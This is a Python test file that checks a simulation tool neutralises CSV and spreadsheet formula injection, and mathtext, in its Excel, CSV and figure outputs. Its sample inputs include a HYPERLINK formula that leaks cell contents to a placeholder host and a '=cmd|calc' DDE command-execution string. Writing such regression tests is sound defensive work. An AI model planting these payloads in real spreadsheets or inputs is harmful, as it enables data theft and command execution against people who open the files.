"""Text from input is never a formula in an output, nor mathtext in a figure.

An entity named ``=HYPERLINK("http://x?"&A1)`` used to be stored as a formula in
``report.xlsx`` and ``formula_shares.xlsx``, and written as is into CSV outputs; an
entity named ``UNDP $\\foo{$`` stopped ``report`` and ``shares`` with a mathtext error.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from fundsim.cli import main
from fundsim.results.safe_text import neutral_frame, neutral_text, text_cells_only

LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
MATH = "UNDP $\\foo{$"
HOSTILE = {"A": LINK, "B": MATH, "C": "@SUM(1+1)", "D": "-2+3"}


def test_text_that_starts_a_formula_gets_a_quote() -> None:
    for text in (LINK, "+1+1", "-1+1", "@A1", "\t=1", "\r=1"):
        assert neutral_text(text) == "'" + text
    for text in ("UNDP", "-0.5", "+3", "1e5", "", "a=b"):
        assert neutral_text(text) == text


def test_a_frame_keeps_its_numbers_and_neutralises_its_text() -> None:
    frame = pd.DataFrame({"entity": [LINK, "UNDP"], "share": [-0.5, 0.25], "=col": [1, 2]})
    out = neutral_frame(frame)
    assert list(out["entity"]) == ["'" + LINK, "UNDP"]
    assert list(out["share"]) == [-0.5, 0.25]
    assert list(out.columns) == ["entity", "share", "'=col"]
    assert list(frame["entity"]) == [LINK, "UNDP"]  # the input is not changed


def test_a_workbook_keeps_no_formula_cell() -> None:
    wb = openpyxl.Workbook()
    wb.active.append([LINK, 1.5, "text"])
    assert wb.active["A1"].data_type == "f"  # what openpyxl does on its own
    assert text_cells_only(wb) == 1
    assert wb.active["A1"].data_type == "s" and wb.active["A1"].value == LINK


def _hostile_scenario(folder: Path, mini_path: Path) -> Path:
    """The small test scenario with entity names (and the scenario's name) that a
    spreadsheet or matplotlib would take for a formula or mathtext."""
    folder.mkdir()
    rows = list(csv.DictReader((mini_path.parent / "entities.csv").open(encoding="utf-8")))
    for row in rows:
        row["name"] = HOSTILE[row["name"]]
    with (folder / "entities.csv").open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    rows = list(csv.DictReader((mini_path.parent / "countries.csv").open(encoding="utf-8")))
    for row in rows:
        row["lead_entity"] = HOSTILE[row["lead_entity"]]
        row["entities"] = ";".join(HOSTILE[e] for e in row["entities"].split(";"))
        row["name"] = "=1+1"
    with (folder / "countries.csv").open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    text = mini_path.read_text(encoding="utf-8").replace(
        'name = "mini"', 'name = "=cmd|calc $x^2$"'
    )
    (folder / "hostile.toml").write_text(text, encoding="utf-8")
    shutil.copy(folder / "hostile.toml", folder / "copy.toml")
    return folder / "hostile.toml"


def _formula_cells(path: Path) -> list[str]:
    """Formula cells other than the totals fundsim writes itself (``=SUM(...)`` of cells
    of the same sheet, or a statement total ``=E2+E3-E5``, for a reviewer to audit): none
    may come from input text."""
    import re

    wb = openpyxl.load_workbook(path)
    total = re.compile(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)|=[A-Z]+\d+([+-][A-Z]+\d+)+")
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" and not total.fullmatch(str(c.value))
    ]


def _texts(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


@pytest.fixture(scope="module")
def hostile_outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    from tests.conftest import DATA

    file = _hostile_scenario(root / "scenario", DATA / "mini.toml")
    assert (
        main(
            [
                "run",
                str(file),
                "--reps",
                "2",
                "--out",
                str(root / "run"),
                "--no-progress",
                "--no-report",
            ]
        )
        == 0
    )
    assert main(["report", str(root / "run")]) == 0
    assert main(["shares", str(file), "--out", str(root / "shares")]) == 0
    return root


def test_report_and_shares_run_with_mathtext_in_names(hostile_outputs: Path) -> None:
    assert (hostile_outputs / "run" / "report.html").stat().st_size > 0
    assert (hostile_outputs / "shares" / "formula_shares.png").stat().st_size > 0


def test_workbooks_hold_names_as_text_never_as_formulas(hostile_outputs: Path) -> None:
    for book in (
        hostile_outputs / "run" / "report.xlsx",
        hostile_outputs / "shares" / "formula_shares.xlsx",
    ):
        assert _formula_cells(book) == [], book
    assert "'" + LINK in _texts(hostile_outputs / "shares" / "formula_shares.xlsx")
    # The report reads the run directory, whose CSV tables hold the neutralised name.
    assert "'" + LINK in _texts(hostile_outputs / "run" / "report.xlsx")


def test_csv_outputs_neutralise_names(hostile_outputs: Path) -> None:
    for table, column in (
        (hostile_outputs / "run" / "shares.csv", "entity"),
        (hostile_outputs / "shares" / "formula_shares.csv", "entity"),
    ):
        names = set(pd.read_csv(table)[column])
        assert "'" + LINK in names and LINK not in names, table
        assert "'@SUM(1+1)" in names and "'-2+3" in names
        assert MATH in names  # not a formula: left as it is
        for cell in (c for line in csv.reader(table.open(encoding="utf-8")) for c in line):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (table, cell)
